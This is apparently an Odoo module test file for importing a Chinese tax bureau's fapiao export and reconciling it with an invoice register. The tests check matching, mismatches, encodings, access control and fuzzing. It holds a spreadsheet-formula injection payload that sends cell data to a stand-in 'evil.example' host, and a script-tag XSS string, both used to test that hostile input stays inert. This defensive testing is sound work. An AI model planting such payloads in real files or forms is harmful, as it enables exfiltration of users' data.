"""Import of the bureau's 全量发票查询 export and its reconciliation with the fapiao register."""

import base64
import json
from datetime import date, datetime

from odoo.exceptions import AccessError, UserError
from odoo.tests import freeze_time, tagged

from ..demo import bureau_export_file as bf
from ..tools import bureau_export as be
from .common import FapiaoCommon
from .fuzzing import HealthCheck, given, settings, st

MONTH = date(2026, 10, 1)
MONTH_END = date(2026, 10, 31)
SELLER = "91440300MA5F00012E"
OTHER_SELLER = "91110000600037341L"
DAY = date(2026, 10, 15)
# The outcome of each line of BureauImportCommon.month_rows().
MONTH_OUTCOMES = {
    "26442000000000000001": "matched",
    "26442000000000000002": "matched",
    "01234567": "matched",
    "26442000000000000004": "odoo_only",
    "26442000000000000005": "amount_mismatch",
    "00000006": "status_mismatch",
    "26442000000000000007": "matched",
    "26442000000000000008": "bureau_only",
    "26442000000000000009": "other_seller",
}
INJECTION = '=HYPERLINK("http://evil.example/steal?c="&A1,"查看详情")'


@tagged("post_install", "-at_install")
@freeze_time("2026-11-10")
class BureauImportCommon(FapiaoCommon):
    """A company with the seller's tax ID, its register of October, and a month's export."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.vat = SELLER
        cls.company.clearing_first_period = MONTH
        cls.Import = cls.env["invoice.clearing.import"]
        make = cls.create_fapiao
        cls.f_text = make(number="26442000000000000001", amount=100.0, issue_date=DAY)
        cls.f_excel = make(kind="digital_special", number="26442000000000000002", amount=200.0,
                           issue_date=DAY)  # fmt: skip
        cls.f_legacy = make(kind="vat_special", number="01234567", amount=300.0, issue_date=DAY)
        cls.f_missing = make(number="26442000000000000004", amount=400.0, issue_date=DAY,
                             uploaded=True)  # fmt: skip
        cls.f_amount = make(number="26442000000000000005", amount=500.0, issue_date=DAY)
        cls.f_void = make(kind="vat_general", number="00000006", amount=600.0, issue_date=DAY)
        cls.f_red = make(number="26442000000000000007", amount=-100.0, issue_date=DAY, is_red=True)
        # An invoice the bureau-only fapiao belongs to: same buyer, total and date.
        cls.invoice = cls.posted_invoice([(800.0, cls.tax_13)], date=DAY)

    # ------------------------------------------------------------------ helpers
    @classmethod
    def row(cls, digital, amount, **overrides):
        tax = round(amount * 0.13, 2)
        values = {
            "digital_number": digital,
            "seller_vat": SELLER,
            "seller_name": cls.company.name,
            "buyer_vat": cls.buyer.vat,
            "buyer_name": "福州测试贸易（有限）公司",
            "issue_date": datetime(2026, 10, 15, 10, 30),
            "amount_untaxed": amount,
            "amount_tax": tax,
            "amount_total": round(amount + tax, 2),
            "kind": "digital_general",
            "status": "normal",
            "is_red": amount < 0,
        }
        values.update(overrides)
        return values

    @classmethod
    def month_rows(cls):
        """A real-shaped month: every outcome, Excel-numeric IDs, red and void rows."""
        legacy = {"digital_number": "", "code": "3200191130", "kind": "vat_special"}
        general = {"digital_number": "", "code": "032001900104", "kind": "vat_general"}
        return [
            cls.row("26442000000000000001", 100.0),
            cls.row(26442000000000000002, 200.0, kind="digital_special"),  # Excel's number
            cls.row(None, 300.0, number=1234567, **legacy),  # leading zero lost by Excel
            cls.row("26442000000000000005", 510.0),  # amount differs
            cls.row(None, 600.0, number="00000006", status="void", **general),
            cls.row("26442000000000000007", -100.0),  # red-letter, also red in Odoo
            cls.row("26442000000000000008", cls.invoice.amount_untaxed, buyer_name=INJECTION),
            cls.row("26442000000000000009", 50.0, seller_vat=OTHER_SELLER, seller_name="别家公司"),
        ]

    @classmethod
    def csv_rows(cls):
        """The month as a CSV holds it: every cell text, so the 8-digit number keeps its zero."""
        rows = cls.month_rows()
        rows[2]["number"] = "01234567"
        return rows

    def do_import(
        self, data, user=None, file_name="export.xlsx", date_from=MONTH, date_to=MONTH_END
    ):
        wizard = (
            self.env["invoice.clearing.import.wizard"]
            .with_user(user or self.clerk)
            .create(
                {
                    "file": base64.b64encode(data),
                    "file_name": file_name,
                    "company_id": self.company.id,
                    "date_from": date_from,
                    "date_to": date_to,
                }
            )
        )
        action = wizard.action_import()
        return self.Import.browse(action["res_id"])

    def outcomes(self, batch):
        return {line.number: line.outcome for line in batch.line_ids}

    def assert_refused(self, data, *texts, file_name="export.xlsx"):
        before = self.Import.search_count([])
        uploaded = self.f_text.uploaded
        with self.assertRaises(UserError) as caught:
            self.do_import(data, file_name=file_name)
        for text in texts:
            self.assertIn(text, str(caught.exception))
        self.assertEqual(self.Import.search_count([]), before, "nothing may be created")
        self.assertEqual(self.f_text.uploaded, uploaded, "nothing may be changed")
        return str(caught.exception)


@tagged("post_install", "-at_install")
@freeze_time("2026-11-10")
class TestBureauImport(BureauImportCommon):
    # ------------------------------------------------------------------ outcomes
    def test_month_reconciles_into_every_outcome(self):
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        self.assertEqual(self.outcomes(batch), MONTH_OUTCOMES)
        counts = (batch.count_matched, batch.count_odoo_only, batch.count_bureau_only,
                  batch.count_amount_mismatch, batch.count_status_mismatch,
                  batch.count_other_seller)  # fmt: skip
        self.assertEqual(counts, (4, 1, 1, 1, 1, 1))
        self.assertEqual(batch.state, "open")
        self.assertEqual(batch.row_count, 8)
        # The bureau has every fapiao but one: the clearing's precondition relies on this flag.
        self.assertTrue(
            all((self.f_text | self.f_excel | self.f_legacy | self.f_red).mapped("uploaded"))
        )
        self.assertFalse(self.f_missing.uploaded)
        line = batch.line_ids.filtered(lambda x: x.number == "26442000000000000002")
        self.assertIn("Excel", line.message)
        other = batch.line_ids.filtered(lambda x: x.outcome == "other_seller")
        self.assertIn(OTHER_SELLER, other.message)
        self.assertTrue(other.resolved)
        self.assertTrue(batch.file and batch.file_sha256)
        self.assertIn("4 matched", batch.message_ids[0].body)

    def test_clearing_is_blocked_exactly_by_what_the_bureau_lacks(self):
        self.do_import(bf.write_export_xlsx(self.month_rows()))
        clearing = (
            self.env["invoice.clearing"]
            .with_user(self.clerk)
            .create({"scope": "date", "date_from": MONTH, "date_to": MONTH_END})
        )
        clearing.action_check()
        upload_problems = clearing.problem_ids.filtered(lambda p: "not uploaded" in p.message)
        self.assertEqual(len(upload_problems), 1)
        self.assertIn(self.f_missing.number, upload_problems.message)
        self.assertIn("1 fapiao", upload_problems.message)
        self.assertEqual(clearing.problem_ids.filtered(lambda p: p.severity == "blocking"),
                         upload_problems)  # fmt: skip
        # What is still to decide in the reconciliation is shown, naming the fapiao.
        warnings = clearing.problem_ids.filtered(
            lambda p: p.severity == "warning" and "bureau's export" in p.message
        )
        self.assertEqual(len(warnings), 2)
        self.assertIn("2 fapiao differ", warnings[0].message)
        for number in ("26442000000000000005", "00000006"):
            self.assertIn(number, warnings[0].message)
        self.assertIn("1 fapiao of the tax bureau's export", warnings[1].message)
        self.assertIn("26442000000000000008", warnings[1].message)
        lines = self.env[warnings[0].res_model].search(json.loads(warnings[0].domain))
        self.assertEqual(lines.fapiao_id, self.f_amount | self.f_void)
        # Resolved lines, and lines of a superseded import, no longer show.
        lines.with_user(self.clerk).action_mark_resolved()
        clearing.action_check()
        self.assertFalse(clearing.problem_ids.filtered(lambda p: "differ from" in p.message))
        self.do_import(bf.write_export_csv(self.csv_rows(), "gb18030"), file_name="export.csv")
        clearing.action_check()
        self.assertTrue(clearing.problem_ids.filtered(lambda p: "differ from" in p.message))

    def test_gb18030_csv_gives_the_same_outcomes_and_supersedes(self):
        first = self.do_import(bf.write_export_xlsx(self.month_rows()))
        second = self.do_import(
            bf.write_export_csv(self.csv_rows(), "gb18030"), file_name="export.csv"
        )
        self.assertNotEqual(first, second)
        self.assertEqual(self.outcomes(first), self.outcomes(second))
        self.assertEqual(first.superseded_by_id, second)
        self.assertEqual(first.state, "superseded")
        with self.assertRaises(UserError):
            first.line_ids[0].with_user(self.clerk).action_mark_resolved()

    def test_utf8_csv_with_and_without_bom(self):
        for encoding in ("utf-8", "utf-8-sig"):
            batch = self.do_import(
                bf.write_export_csv(self.csv_rows(), encoding), file_name=f"{encoding}.csv"
            )
            self.assertEqual(batch.count_matched, 4, encoding)

    def test_same_file_twice_is_one_batch(self):
        data = bf.write_export_xlsx(self.month_rows())
        first = self.do_import(data)
        again = self.do_import(data, user=self.manager)
        self.assertEqual(first, again)
        self.assertEqual(self.Import.search_count([("file_sha256", "=", first.file_sha256)]), 1)
        self.assertFalse(first.superseded_by_id)

    # ------------------------------------------------------------------ resolving
    def test_bureau_only_creates_the_fapiao_linked_to_the_invoice(self):
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        line = batch.line_ids.filtered(lambda x: x.outcome == "bureau_only")
        self.assertEqual(line.move_id, self.invoice)
        self.assertEqual(line.buyer_name, INJECTION, "stored as inert text, never evaluated")
        line.with_user(self.clerk).action_create_fapiao()
        fapiao = line.fapiao_id
        self.assertEqual((fapiao.move_id, fapiao.number), (self.invoice, "26442000000000000008"))
        self.assertTrue(fapiao.uploaded and line.resolved)
        self.assertEqual(fapiao.tax_rate, 13.0)  # derived: the only rate the amounts fit

    def test_bureau_only_with_several_rates_creates_rate_lines(self):
        """A 数电 fapiao at 13 % and 6 %: sheet 信息汇总表 splits it by rate, and the fapiao
        created from the line has those rate lines."""
        invoice = self.posted_invoice([(1000.0, self.tax_13), (500.0, self.tax_6)], date=DAY)
        number = "26442000000000000011"
        row = self.row(number, 1500.0, amount_tax=160.0, amount_total=1660.0)
        details = [
            {"digital_number": number, "item_name": "茶叶", "amount_untaxed": 600.0,
             "tax_rate": "13%", "amount_tax": 78.0},
            {"digital_number": number, "item_name": "茶具", "amount_untaxed": 400.0,
             "tax_rate": "13%", "amount_tax": 52.0},
            {"digital_number": number, "item_name": "咨询服务", "amount_untaxed": 500.0,
             "tax_rate": "6%", "amount_tax": 30.0},
        ]  # fmt: skip
        batch = self.do_import(bf.write_export_xlsx([row], details=details))
        line = batch.line_ids.filtered(lambda x: x.number == number)
        self.assertEqual(
            (line.outcome, line.move_id, line.rate_lines),
            ("bureau_only", invoice, [[13.0, False, 1000.0, 130.0], [6.0, False, 500.0, 30.0]]),
        )
        self.assertEqual(line.rates_detail, "13%: 1000.00 + 130.00 | 6%: 500.00 + 30.00")
        line.with_user(self.clerk).action_create_fapiao()
        fapiao = line.fapiao_id
        self.assertRecordValues(fapiao, [{
            "move_id": invoice.id, "multi_rate": True, "tax_rate": 13.0,
            "amount_untaxed": 1500.0, "amount_tax": 160.0, "amount_total": 1660.0,
        }])  # fmt: skip
        self.assertEqual(
            [(r.tax_rate, r.amount_untaxed, r.amount_tax) for r in fapiao.rate_line_ids],
            [(13.0, 1000.0, 130.0), (6.0, 500.0, 30.0)],
        )

    def test_bureau_only_lets_the_user_choose_between_invoices(self):
        twin = self.posted_invoice([(800.0, self.tax_13)], date=DAY)
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        line = batch.line_ids.filtered(lambda x: x.outcome == "bureau_only")
        self.assertEqual(line.candidate_move_ids, self.invoice | twin)
        self.assertFalse(line.move_id)
        with self.assertRaisesRegex(UserError, "choose the invoice"):
            line.with_user(self.clerk).action_create_fapiao()
        line.with_user(self.clerk).move_id = twin
        line.with_user(self.clerk).action_create_fapiao()
        self.assertEqual(line.fapiao_id.move_id, twin)

    def test_bureau_only_red_row_records_the_form_its_note_names(self):
        """The platform writes a red 数电 fapiao's blue fapiao and 红字确认单 in its 备注: Create
        Fapiao links the red fapiao to its blue one and records the form Odoo did not know."""
        form = "26312000000000000901"
        note = f"被红冲蓝字数电发票号码：{self.f_text.number}　红字发票信息确认单编号：{form}"
        batch = self.do_import(
            bf.write_export_xlsx([self.row("26442000000000000010", -50.0, note=note)])
        )
        line = batch.line_ids.filtered(lambda x: x.number == "26442000000000000010")
        self.assertEqual(
            (line.outcome, line.origin_number, line.red_reference),
            ("bureau_only", self.f_text.number, form),
        )
        line.with_user(self.clerk).partner_id = self.buyer
        line.with_user(self.clerk).action_create_fapiao()
        red = line.fapiao_id
        self.assertEqual((red.is_red, red.origin_fapiao_id, red.red_reference),
                         (True, self.f_text, form))  # fmt: skip
        recorded = self.env["invoice.clearing.red.confirmation"].search([("name", "=", form)])
        self.assertRecordValues(recorded, [{
            "state": "used", "source": "red_fapiao", "red_fapiao_id": red.id,
            "blue_fapiao_id": self.f_text.id, "amount_total": -56.5,
        }])  # fmt: skip
        self.assertEqual(self.f_text.state, "red_partial")

    def test_mismatches_are_resolved_with_the_bureaus_values_or_a_decision(self):
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        amount = batch.line_ids.filtered(lambda x: x.outcome == "amount_mismatch")
        self.assertIn("510", amount.message)
        amount.with_user(self.clerk).action_apply_bureau()
        self.assertEqual(self.f_amount.amount_untaxed, 510.0)
        status = batch.line_ids.filtered(lambda x: x.outcome == "status_mismatch")
        self.assertIn("已作废", status.message)
        # Voiding after the month of issue is refused with the register's own explanation.
        with self.assertRaisesRegex(UserError, "month it was issued"):
            status.with_user(self.clerk).action_apply_bureau()
        status.with_user(self.clerk).action_mark_resolved()
        missing = batch.line_ids.filtered(lambda x: x.outcome in ("odoo_only", "bureau_only"))
        missing.with_user(self.clerk).action_mark_resolved()
        self.assertEqual(batch.state, "done")
        self.assertIn("marked as resolved", batch.message_ids[0].body)

    def test_red_at_the_bureau_proposes_a_credit_note(self):
        self.f_text.move_id = self.invoice
        rows = self.month_rows()
        rows[0]["status"] = "red_full"
        batch = self.do_import(bf.write_export_xlsx(rows))
        line = batch.line_ids.filtered(lambda x: x.number == "26442000000000000001")
        self.assertEqual(line.outcome, "status_mismatch")
        action = line.with_user(self.clerk).action_apply_bureau()
        self.assertEqual(action["res_model"], "account.move.reversal")
        self.assertEqual(action["context"]["active_ids"], self.invoice.ids)

    # ------------------------------------------------------------------ bad input
    def test_wrong_columns(self):
        self.assert_refused(b"name,amount\nx,1\n", "not a 全量发票查询 export", file_name="x.csv")

    def test_empty_file(self):
        self.assert_refused(b"", "empty")

    def test_binary_garbage(self):
        self.assert_refused(bytes(range(256)) * 40, "nothing was imported")

    def test_oversized_file(self):
        self.env["ir.config_parameter"].set_param(
            "invoice_clearing.import_max_bytes", str(20 * 1024 * 1024)
        )
        message = self.assert_refused(b"0" * (21 * 1024 * 1024), "20 MB")
        self.assertIn("The file is 21 MB", message)
        # The model refuses it too when called without the wizard (RPC).
        with self.assertRaisesRegex(UserError, "MB"):
            self.Import.with_user(self.clerk).import_file(
                self.company, MONTH, MONTH_END, b"0" * (be.MAX_BYTES + 1), "big.csv"
            )

    def test_size_limit_is_a_system_parameter(self):
        data = bf.write_export_xlsx(self.month_rows())
        self.env["ir.config_parameter"].set_param(
            "invoice_clearing.import_max_bytes", str(len(data) - 1)
        )
        self.assert_refused(data, "at most 0 MB")
        self.env["ir.config_parameter"].set_param(
            "invoice_clearing.import_max_bytes", str(len(data))
        )
        self.assertEqual(self.do_import(data).count_matched, 4)

    def test_default_size_limit_takes_a_month_of_100000_fapiao(self):
        # ~20.2 MB as UTF-8 CSV for the bench's 100,000 fapiao (scripts/bench.py import).
        self.assertGreaterEqual(self.Import._max_bytes(), 21 * 1024 * 1024)

    # ------------------------------------------------------------------ audit and storage
    def test_upload_state_is_audited_without_a_message_per_fapiao(self):
        tracked = self.env["mail.tracking.value"].search_count([
            ("field_id.name", "=", "uploaded"), ("field_id.model", "=", "invoice.clearing.fapiao"),
        ])  # fmt: skip
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        marked = self.f_text | self.f_excel | self.f_legacy | self.f_red | self.f_amount
        self.assertEqual(marked.mapped("uploaded_import_id"), batch)
        self.assertEqual(self.f_missing.uploaded_import_id, batch)  # unmarked: not uploaded
        self.assertFalse(self.f_missing.uploaded)
        self.assertEqual(marked.mapped("write_uid"), self.clerk)
        self.assertEqual(
            self.env["mail.tracking.value"].search_count([
                ("field_id.name", "=", "uploaded"),
                ("field_id.model", "=", "invoice.clearing.fapiao"),
            ]),
            tracked,
        )  # fmt: skip
        audit = batch.message_ids.filtered(lambda m: "fapiao uploaded" in (m.body or ""))
        self.assertEqual(len(audit), 1)
        self.assertIn(self.clerk.name, audit.body)
        self.assertIn("marked 6 fapiao uploaded", audit.body)  # f_void too: the bureau has it
        self.assertIn("and 1 not uploaded", audit.body)
        # A user's own change is tracked on the fapiao and no longer names the import.
        self.f_missing.with_user(self.clerk).uploaded = True
        self.assertFalse(self.f_missing.uploaded_import_id)

    def test_lines_are_stored_as_the_orm_would(self):
        rows = self.month_rows()
        awkward = "back\\slash \"quoted\" {1,2} NULL ,''"
        rows[0]["buyer_name"] = awkward
        batch = self.do_import(bf.write_export_xlsx(rows))
        lines = batch.line_ids
        self.assertEqual(len(lines), 9)
        self.assertEqual(lines.company_id, self.company)
        self.assertEqual(lines.create_uid | lines.write_uid, self.clerk)
        self.assertTrue(all(lines.mapped("create_date")))
        line = lines.filtered(lambda x: x.number == "26442000000000000001")
        self.assertEqual(
            (line.fapiao_id, line.amount_total, line.buyer_vat, line.issue_date, line.sheet),
            (self.f_text, 113.0, self.buyer.vat, DAY, be.BASIC_SHEET),
        )
        self.assertEqual(line.buyer_name, awkward)
        self.assertEqual(lines.filtered(lambda x: x.outcome == "bureau_only").buyer_name, INJECTION)
        missing = lines.filtered(lambda x: x.outcome == "odoo_only")
        self.assertEqual(missing.buyer_name, self.f_missing.partner_id.display_name)
        self.assertIn(self.f_missing.number, missing.message)
        self.env.invalidate_all()
        self.env.cr.execute(
            "SELECT count(*) FROM invoice_clearing_import_line WHERE import_id = %s"
            " AND (resolved IS NULL OR is_red IS NULL OR create_date IS NULL)",
            [batch.id],
        )
        self.assertEqual(self.env.cr.fetchone()[0], 0)

    def test_row_errors_are_listed_and_nothing_is_written(self):
        rows = self.month_rows()
        rows[1]["issue_date"] = "not a date"
        rows[3]["status"] = "丢失"
        message = self.assert_refused(bf.write_export_xlsx(rows))
        self.assertIn("Sheet 发票基础信息, row 5", message)
        self.assertIn("Sheet 发票基础信息, row 7", message)

    def test_row_outside_the_period(self):
        rows = self.month_rows()
        rows[0]["issue_date"] = "2026-09-30"
        self.assert_refused(bf.write_export_xlsx(rows), "row 4", "outside the period")

    def test_import_over_rpc_with_ids_and_base64(self):
        data = bf.write_export_xlsx(self.month_rows())
        batch = self.Import.with_user(self.clerk).import_file(
            self.company.id, "2026-10-01", "2026-10-31", base64.b64encode(data).decode(), "rpc.xlsx"
        )
        self.assertEqual(batch.count_matched, 4)

    def test_line_messages_in_the_users_language(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.env = self.env(context=dict(self.env.context, lang="zh_CN"))  # as the web client
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        messages = {line.number: line.message for line in batch.line_ids}
        self.assertEqual(
            messages["00000006"],
            "税务局状态：已作废；Odoo 状态：正常。请在 Odoo 中作废该发票或开具红字贷项通知单，"
            "或与税务局核实后保留 Odoo 的状态。",
        )
        self.assertEqual(
            messages["26442000000000000005"],
            "金额：税务局 510.00，Odoo 500.0; 税额：税务局 66.30，Odoo 65.0; "
            "价税合计：税务局 576.30，Odoo 565.0",
        )
        self.assertEqual(
            messages["26442000000000000009"],
            f"该发票的销方为 别家公司（{OTHER_SELLER}），不是 {self.company.name}（{SELLER}）："
            "此行不导入。",
        )

    def test_errors_in_the_users_language(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.clerk.lang = "zh_CN"
        with self.assertRaises(UserError) as caught:
            self.do_import(b"")
        self.assertTrue(str(caught.exception))

    # ------------------------------------------------------------------ access
    def test_auditor_reads_but_cannot_import(self):
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        self.assertEqual(batch.with_user(self.auditor).count_matched, 4)
        with self.assertRaises(AccessError):
            self.do_import(bf.write_export_xlsx(self.month_rows()[:3]), user=self.auditor)
        with self.assertRaises(AccessError):
            batch.line_ids[0].with_user(self.auditor).write({"tax_rate": 6.0})

    def test_other_company_cannot_see_the_import(self):
        batch = self.do_import(bf.write_export_xlsx(self.month_rows()))
        other = self.env["res.company"].create({"name": "Other Co"})
        outsider = self.clerk.copy(
            {"login": "ic_outsider", "company_id": other.id, "company_ids": [(6, 0, other.ids)]}
        )
        self.assertFalse(self.Import.with_user(outsider).search([("id", "=", batch.id)]))
        self.assertFalse(
            self.env["invoice.clearing.import.line"]
            .with_user(outsider)
            .search([("import_id", "=", batch.id)])
        )

    # ------------------------------------------------------------------ hostile input
    @settings(
        max_examples=100,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(
        position=st.integers(0, 7),
        column=st.sampled_from(be.BASIC_COLUMNS),
        value=st.one_of(
            st.text(max_size=20),
            st.sampled_from([INJECTION, "=1+1", "<script>alert(1)</script>", "合计", "1e300"]),
            st.integers(-(10**21), 10**21),
            st.floats(),
        ),
    )
    def test_fuzz_no_partial_write(self, position, column, value):
        rows = self.month_rows()
        rows[position][column] = value
        try:
            data = bf.write_export_csv(rows, "utf-8")
        except UnicodeEncodeError:
            return
        with self.env.cr.savepoint(flush=False) as savepoint:
            before = self.Import.search_count([])
            flags = (self.f_text | self.f_missing).mapped("uploaded")
            try:
                batch = self.do_import(data, file_name="fuzz.csv")
            except UserError:
                self.assertEqual(self.Import.search_count([]), before)
                self.assertEqual((self.f_text | self.f_missing).mapped("uploaded"), flags)
            else:
                self.assertTrue(batch.line_ids and all(batch.line_ids.mapped("outcome")))
            savepoint.rollback()
        self.env.invalidate_all()
